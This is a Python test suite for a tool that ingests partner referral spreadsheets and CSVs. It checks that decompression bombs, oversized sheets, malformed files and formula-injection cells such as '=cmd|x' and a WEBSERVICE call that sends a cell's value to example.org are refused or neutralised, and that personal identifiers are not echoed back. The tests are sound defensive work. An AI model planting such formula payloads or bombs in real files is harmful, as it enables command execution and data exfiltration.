"""Files made to break what reads them, or to smuggle something through: each is refused in words or read for what it says."""

import csv
import io
import tomllib
from datetime import date

import pytest

from svd_data.partner import findings_csv, findings_text
from svd_data.partner.identifiers import identifiers
from tests.svd_data.partner import books
from tests.svd_data.partner.conftest import Check, Load
from tests.svd_data.partner.makers import REFERRAL_HEADINGS, REFERRALS, Files, referral, referrals


def workbook(content: bytes, mapping: str = REFERRALS) -> Files:
    return {"referrals/mapping.toml": mapping, "referrals/b.xlsx": content}


def text(content: str | bytes) -> Files:
    return referrals() | {"referrals/r.csv": content}


FAR_CELLS = '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
CELL = "<c><v>1</v></c>"

# Each would take the process with it, or all memory, if the reader were given it.
OUTSIZE = {
    "two cells at opposite corners": books.raw_book(FAR_CELLS),
    "the same in a sheet of another name": books.raw_book(FAR_CELLS, "media/image1.png"),
    "rows without places for their cells": books.raw_book(f'<row r="1">{CELL}</row><row r="1048576">{CELL * 40}</row>'),
    "signs within the places": books.raw_book('<row r="1"><c r="A1"><v>1</v></c></row><row><c t=">" r = "XFD1048576"><v>1</v></c></row>'),
    "a gigabyte of zeros": books.bomb(1100 * 1024**2),
    "a gigabyte that says it is small": books.bomb(1100 * 1024**2, 1000),
}  # fmt: skip


@pytest.mark.parametrize("name", OUTSIZE)
def test_a_workbook_that_would_take_all_memory_is_refused(check: Check, name: str) -> None:
    assert len(OUTSIZE[name]) < 2 * 1024**2
    folder = check(workbook(OUTSIZE[name]))
    assert list(folder.findings["rule"]) in (["file_outsize"], ["file_unreadable"])
    assert folder.findings["rule"].iloc[0] == "file_outsize" or "says" in name


def test_a_sheet_that_cannot_be_measured_is_refused(check: Check) -> None:
    assert list(check(workbook(books.raw_book(f"<row a=1></row>{FAR_CELLS}"))).findings["rule"]) == ["file_unreadable"]


def test_cells_that_are_only_painted_far_below_refuse_nothing(check: Check) -> None:
    book = books.raw_book('<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576" s="0"/></row>')
    assert "file_outsize" not in set(check(workbook(book)).findings["rule"])


@pytest.mark.parametrize("content", [b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1000), books.locked()])
def test_a_locked_workbook_is_told_as_one(check: Check, content: bytes) -> None:
    folder = check(workbook(content))
    assert list(folder.findings["rule"]) == ["file_locked"]
    assert "password" in folder.findings["message"].iloc[0]


OUTSIZE_HEADINGS = {
    "a heading of a megabyte": f"{REFERRAL_HEADINGS},{'x' * 1024**2}\n",
    "ten thousand columns": f"{REFERRAL_HEADINGS},{','.join(f'c{number}' for number in range(10_000))}\n1\n",
}


@pytest.mark.parametrize("name", OUTSIZE_HEADINGS)
def test_headings_that_no_extract_has_are_refused(check: Check, name: str) -> None:
    folder = check(text(OUTSIZE_HEADINGS[name]))
    assert list(folder.findings["rule"]) == ["headings_outsize"]
    assert len(findings_csv(folder.findings)) < 1_000


# Cells of a megabyte: for each the pattern that could take the square of its length, and all that reads in Python.
ENDLESS = ["a", "1 ", "CV1 ", "@", "a@", "1/", "1 a ", "Mr ", "''", "Jane ", "-", "\t", "0"]


@pytest.mark.timeout(60)
def test_endless_cells_cost_their_length_and_no_more(check: Check) -> None:
    cells = [f"CV {each * (1024**2 // len(each))} someone@" for each in ENDLESS]
    assert not check(referrals(*(referral(f"R{number}", Why_closed=cell) for number, cell in enumerate(cells)))).fates[
        "repeated"
    ]


@pytest.mark.timeout(60)
def test_a_file_of_quotation_marks_is_refused_before_long(check: Check) -> None:
    folder = check(text(f"{REFERRAL_HEADINGS}\n" + '"a\n' * 300_000))
    assert list(folder.findings["rule"]) == ["file_unreadable"]


@pytest.mark.parametrize(
    ("content", "rules"),
    [
        (f"{REFERRAL_HEADINGS}\nR1,C\0,01/02/2024\n".encode(), ["file_encoding"]),
        (f"{REFERRAL_HEADINGS}\n{referral()}\n".encode("utf-16-le"), ["file_encoding"]),
        (f"{REFERRAL_HEADINGS}\n{referral()}\n".encode("utf-16"), ["file_encoding"]),
        (f"{REFERRAL_HEADINGS},ref\n{referral()},2\n".encode(), ["column_twice"]),
        (f"{REFERRAL_HEADINGS}, REF \n{referral()},2\n".encode(), ["column_twice"]),
        (f"{REFERRAL_HEADINGS},X,x \n{referral()},1,2\n".encode(), []),  # only of what is used one must be meant
    ],
)  # fmt: skip
def test_odd_bytes_and_headings_that_come_twice(check: Check, content: bytes, rules: list[str]) -> None:
    assert list(check(text(content)).findings["rule"]) == rules


# What programs would run

FORMULAS = ["=1+1", "+44", "-2+3", "@SUM(A1)", "\t=1", "\r=1", '=HYPERLINK("http://x")', "＝1"]


def test_no_cell_of_the_findings_is_a_formula(check: Check) -> None:
    headings = REFERRAL_HEADINGS.replace("Sex", '"=cmd|x"')
    mapping = REFERRALS.replace('"Sex"', '"=cmd|x"')
    lines = [referral(f"R{number}").replace(",16,", f',16,"{formula.replace(chr(34), chr(34) * 2)}"', 1).replace(',,West', ',West')
             for number, formula in enumerate(FORMULAS)]  # fmt: skip
    folder = check({"referrals/mapping.toml": mapping, "referrals/=r.csv": "\n".join([headings, *lines])})
    assert (folder.findings["rule"] == "value_unknown").sum() >= 5
    for row in csv.reader(io.StringIO(findings_csv(folder.findings))):
        assert not [cell for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r", "＝")]


def test_formulas_of_a_workbook_are_read_by_the_value_that_was_saved_and_never_run(check: Check) -> None:
    formula = [
        "R1",
        '=WEBSERVICE("http://example.org/"&A1)',
        date(2024, 2, 1),
        None,
        None,
        "=8+8",
        None,
        "West",
        None,
        None,
    ]
    folder = check(workbook(books.book_of(REFERRAL_HEADINGS.split(","), formula)))
    # openpyxl saves no values: the cells are blank, as for a workbook that no program has calculated.
    assert list(folder.findings["rule"]) == ["person_missing"]
    assert folder.fates["kept"] == 1


# What cells mean

DATES = {
    "31/02/2024": "date_unreadable",
    "30.2.2024": "date_unreadable",
    "29/02/2024": "",
    "2024-02-29": "",
    "45351": "",
    "45,351": "",
    "=45351": "date_unreadable",
    "'29/02/2024": "date_unreadable",
    "45351.75": "",
    "60001": "date_unreadable",
    "02/29/2024": "date_unreadable",
}
AGES = {
    "-3": "age_impossible",
    "1,234": "age_impossible",
    "016": "",
    "1e1": "age_unreadable",
    "16yrs": "age_unreadable",
    "−3": "age_unreadable",
}


@pytest.mark.parametrize(("column", "cells"), [("Referred", DATES), ("Age", AGES)])
def test_odd_dates_and_ages(check: Check, column: str, cells: dict[str, str]) -> None:
    lines = [referral(f"R{number}", **{column: f'"{cell}"'}) for number, cell in enumerate(cells)]
    found = check(referrals(*lines)).findings
    told = dict(zip(found["row"], found["rule"], strict=True))
    assert {cell: told.get(row, "") for row, cell in enumerate(cells, start=2)} == cells


def test_references_keep_their_zeros_and_signs(load: Load) -> None:
    built = load(referrals(*(referral(ref, Client="x") for ref in ("007", "7", "'007", "7.0", "O'Neil", "R-1"))))
    assert built.execute("SELECT count(DISTINCT referral_id), count(*) FROM out.referrals").fetchall() == [(6, 6)]


@pytest.mark.parametrize("mac", [False, True])
def test_real_dates_are_right_by_either_count_of_days(load: Load, mac: bool) -> None:
    row = ["R1", "C1", date(2024, 2, 29), None, None, 16, None, "West", None, None]
    built = load(workbook(books.book_of(REFERRAL_HEADINGS.split(","), row, mac=mac)))
    assert built.execute("SELECT referred_on FROM out.referrals").fetchall() == [(date(2024, 2, 29),)]


def test_merged_cells_have_their_value_in_the_first_row_only_and_that_is_told(check: Check) -> None:
    rows = [["R1", "C1", date(2024, 2, 1), *[None] * 7], [None, "C2", date(2024, 2, 2), *[None] * 7]]
    found = check(workbook(books.book_of(REFERRAL_HEADINGS.split(","), *rows, merged="A2:A3"))).findings
    assert list(found[["row", "rule"]].itertuples(index=False, name=None)) == [(3, "id_missing")]


def test_of_two_sheets_the_first_is_read_or_the_one_named(check: Check) -> None:
    row = ["R1", "C1", date(2024, 2, 1), *[None] * 7]
    content = books.book_of(REFERRAL_HEADINGS.split(","), row)
    assert check(workbook(content)).fates["rows"] == 1
    second = REFERRALS.replace("[columns]", '[file]\nsheet = "Second"\n[columns]')
    assert set(check(workbook(content, second)).findings["rule"]) == {"column_missing"}


# What names a person where nobody looks

NO_HEADINGS = "77001,Jane Okafor,15/06/2007,CV1 2AB,someone@example.org,9434765919,07700 900123"


def test_of_a_file_without_headings_nothing_is_told(check: Check) -> None:
    folder = check(text(f"{NO_HEADINGS}\n{NO_HEADINGS.replace('77001', '77002')}\n"))
    told = findings_csv(folder.findings) + findings_text(folder.findings) + str(folder.notices)
    assert folder.is_refused
    assert "column D" in set(folder.findings["column"])
    assert not [cell for cell in NO_HEADINGS.split(",") if cell in told]


@pytest.mark.parametrize("heading", ["CV1 2AB", "someone@example.org", "943 476 5919", "12 Holyhead Road"])
def test_a_heading_that_is_an_identifier_refuses_the_file(check: Check, heading: str) -> None:
    folder = check(text(f"{REFERRAL_HEADINGS},{heading}\n{referral()},1\n"))
    assert list(folder.findings["column"]) == ["column K"]
    assert folder.findings["rule"].iloc[0].startswith("identifier_")


def test_a_heading_that_may_be_a_person_is_not_repeated(load: Load) -> None:
    built = load(text(f"{REFERRAL_HEADINGS},Jane Okafor\n{referral()},1\n"))
    (message,) = built.execute("SELECT message FROM out.notices").fetchone() or ("",)
    assert message.endswith("left out: column K")


# cells of one column of free text, and the rule that refuses it
FREE_TEXT = {
    "a no-break space in a postcode": (["lives at CV1\u00a02AB now", ""], "identifier_postcode"),
    "a blank of no width in one": (["lives at CV1\u200b 2AB now", ""], "identifier_postcode"),
    "a hyphen in a postcode": (["cv1-2ab", ""], "identifier_postcode"),
    "Coventry's dialling code": (["on 024 7683 1234", ""], "identifier_phone"),
    "the same in brackets": (["on (024) 76831234", ""], "identifier_phone"),
    "digits of full width": (["see ９４３４７６５９１９", ""], "identifier_nhs"),
    "odd hyphens": (["see 943\u2011476\u20115919", ""], "identifier_nhs"),
    "a date of birth in a sentence": (["her DOB: 3/2/2009, seen today", ""], "identifier_birth"),
    "born on": (["Born on 3 February 2009", ""], "identifier_birth"),
    "a title": (["worker is Mr Quill today", ""], "identifier_name"),
    "names in sentences": (["was seen with Jane Okafor at school", "his uncle Mohammed Vane rang in"], "identifier_name"),
    "first names alone": (["Jane", "Mohammed"], "identifier_name"),
    "a telephone number": (["ring 07700 900123 after four", ""], "identifier_phone"),
    "an address": (["moved to 12 Holyhead Road last week", ""], "identifier_address"),
}  # fmt: skip


@pytest.mark.parametrize("name", FREE_TEXT)
def test_identifiers_within_free_text_refuse_the_file(check: Check, name: str) -> None:
    cells, rule = FREE_TEXT[name]
    lines = [f'{referral(f"R{number}")},"{cell}"' for number, cell in enumerate([*cells, "David"])]
    folder = check(text("\n".join([f"{REFERRAL_HEADINGS},Remarks", *lines])))
    assert list(folder.findings["rule"]) == [rule]
    assert not [cell for cell in cells if cell and cell in findings_csv(folder.findings)]


def test_free_text_about_places_and_things_is_no_persons(check: Check) -> None:
    cells = [
        "met at the George Eliot Hospital after school",
        "walked through Victoria Park Primary at night",
        "born leader",
        "a mark of trust was given to all",
    ]
    lines = [f"{referral(f'R{number}')},{cell}" for number, cell in enumerate(cells)]
    assert not check(text("\n".join([f"{REFERRAL_HEADINGS},Remarks", *lines]))).is_refused


def test_a_reference_in_the_wrong_column_is_not_repeated(check: Check) -> None:
    folder = check(referrals(referral("QQ7", Client="ZZ9", Sex="ZZ9"), referral("R2", Sex="Malee"), referral("R3", Sex="see QQ7")))  # fmt: skip
    assert list(folder.findings["value"]) == ["", "Malee", ""]


def test_headings_of_every_kind_leave_a_draft_that_can_be_read() -> None:
    from svd_data.partner.draft import _quoted

    for heading in ('a"b', "a\\b", "a\x01b", "a\x7fb", "\u2028", "a'b", "=1", "é"):
        assert tomllib.loads(f"{_quoted(heading)} = 1\n# {_quoted(heading)}\n") == {heading: 1}


def test_the_limits_of_a_name_are_told_by_the_words_around_it() -> None:
    known = identifiers()
    assert known.rules_of_headings(["Faith group", "Christian status"]) == {}
    assert known.rules_of_headings(["Jane Okafor", "Mohammed Vane"]) == {0: "identifier_name", 1: "identifier_name"}
